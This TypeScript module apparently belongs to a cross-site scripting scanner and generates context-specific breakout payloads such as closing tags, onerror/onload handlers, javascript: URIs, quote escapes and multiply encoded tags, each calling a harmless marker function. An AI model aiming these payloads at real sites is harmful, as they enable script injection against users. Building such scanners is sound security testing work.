import type { Context } from './contexts.ts';
import { removalPayload } from './escaped.ts';
import type { Lexical } from './lexical.ts';
import { outOfXmlAttribute, xmlElements } from './xml-payloads.ts';

/** Texts that break out of a context, the most promising first. */
export function payloadsFor(context: Context, token: string): readonly string[] {
  const element = `<x-${token}>`;
  const call = `x${token}()`;
  switch (context.kind) {
    case 'text':
      return elements(token);
    case 'comment':
      return [
        `-->${element}`,
        `--!>${element}`,
        ...elements(token)
          .slice(1)
          .map((one) => `-->${one}`),
      ];
    case 'raw text':
      return elements(token).map((one) => `</${context.tag}>${one}`);
    case 'data script':
      return elements(token).map((one) => `</script>${one}`);
    case 'tag name':
    case 'attribute name':
      return [`a onfocus=${call} x`, `a>${element}`, `a/onfocus=${call}/x`, `onfocus=${call}`];
    case 'attribute':
      return outOfAttribute(context.quote, token);
    case 'nested page':
      return [element, ...outOfAttribute(context.quote, token)];
    case 'address':
      return [`javascript:${call}//`, `java\tscript:${call}//`, ...outOfAttribute(context.quote, token)];
    case 'script address':
      return [`//${token}.example/`, `https://${token}.example/`, ...outOfAttribute(context.quote, token)];
    case 'event handler':
      return [
        ...outOfCode(context.lexical, call),
        ...outOfCode(context.lexical, call).map((text) => text.replaceAll("'", '&#39;').replaceAll('"', '&#34;')),
        ...outOfAttribute(context.quote, token),
      ];
    case 'start':
      return [`<p><x-${token}>`, `<html><x-${token}>`, `<script>${call}</script>`];
    case 'XML text':
      return xmlElements(token);
    case 'XML comment':
      return xmlElements(token).map((one) => `-->${one}<!--`);
    case 'CDATA section':
      return xmlElements(token).map((one) => `]]>${one}<![CDATA[`);
    case 'XML attribute':
      return outOfXmlAttribute(context.name, token);
    case 'script':
      return [...outOfCode(context.lexical, call), ...elements(token).map((one) => `</script>${one}`)];
  }
}

/** An element of ours, in forms that lists of tags, and filters that remove something once, let through. */
function elements(token: string): readonly string[] {
  const call = `x${token}()`;
  return [
    `a<x-${token}>`,
    removalPayload(token),
    `<img src=x onerror=${call}>`,
    // Decoded once more than usual, and twice or three times.
    `%3Cx-${token}%3E`,
    `%253Cx-${token}%253E%25253Cx-${token}%25253E`,
    `<x-${token} `,
    `<svg/onload=${call}>`,
    `<X-${token}>`,
    `<x<x>-${token}>`,
    `&lt;x-${token}&gt;`,
    `\uff1cx-${token}\uff1e`,
  ];
}

function outOfAttribute(quote: '"' | "'" | '', token: string): readonly string[] {
  const call = `x${token}()`;
  if (quote === '')
    return [`a onfocus=${call} x=`, `a><x-${token}>`, `a\tonfocus=${call}\tx=`, `a\fonfocus=${call}\fx=`];
  return [
    `${quote} onfocus=${quote}${call}//`,
    `${quote}><x-${token}>`,
    `${quote}/onfocus=${quote}${call}//`,
    ...elements(token)
      .slice(1)
      .map((one) => `${quote}>${one}`),
  ];
}

/** Texts that end what they are in, and call. */
export function outOfCode(lexical: Lexical, call: string): readonly string[] {
  // Without parentheses: a template literal calls the function before it.
  const tagged = call.replace('()', '``');
  switch (lexical) {
    case 'code':
      return [call, `1;${call};//`, `};${call};{`, `a);${call}//`, tagged];
    case '"':
    case "'":
      return [
        `${lexical}-${call}-${lexical}`,
        `\\${lexical}-${call}//`,
        `\\${lexical});${call}//`,
        `${lexical};${call}//`,
        `${lexical});${call}//`,
        `${lexical}:${call},${lexical}`,
        `${lexical}-${tagged}-${lexical}`,
      ];
    case '`':
      return [`\${${call}}`, `\`-${call}-\``];
    case 'line comment':
      return [`\n${call}//`, `\r${call}//`, `\u2028${call}//`];
    case 'block comment':
      return [`*/${call}/*`];
    case 'regular expression':
      return [`a/-${call}-/a`];
  }
}
